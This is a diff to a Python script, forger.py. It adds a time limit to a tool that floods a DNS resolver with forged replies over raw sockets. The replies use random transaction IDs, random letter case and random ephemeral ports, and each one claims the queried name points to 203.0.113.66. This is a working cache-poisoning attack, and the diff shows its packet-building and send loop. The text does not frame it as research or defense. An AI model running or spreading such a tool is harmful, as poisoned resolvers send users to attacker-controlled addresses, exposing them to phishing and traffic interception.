@@ -1,4 +1,5 @@
-"""Guesses at a question beside its way: forger.py TARGET RESOLVER NAME COUNT [PORT ...] sends so many replies with the target's address.
+"""Guesses at a question beside its way: forger.py TARGET RESOLVER NAME COUNT SECONDS [PORT ...] sends so many replies with the target's
+address, or as many as there is time for.
 
 At random ports of Linux' default range, or at those that are given; with random ids and random case. Every reply says
 203.0.113.66. Needs the right to send raw packets. Says how many it sent.
@@ -8,9 +9,10 @@ import random
 import socket
 import struct
 import sys
+import time
 
-target, resolver, name, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
-ports = [int(port) for port in sys.argv[5:]] or range(32768, 61000)
+target, resolver, name, count, seconds = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
+ports = [int(port) for port in sys.argv[6:]] or range(32768, 61000)
 FORGED = socket.inet_aton("203.0.113.66")
 
 
@@ -32,7 +34,10 @@ def main():
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
     sent = 0
+    deadline = time.monotonic() + seconds
     for _ in range(count):
+        if time.monotonic() > deadline:
+            break
         udp = struct.pack(">HHHHH", 53, random.choice(ports), size - 20, 0, random.getrandbits(16))
         try:
             raw.sendto(head + udp + bodies[random.getrandbits(8)], (resolver, 0))
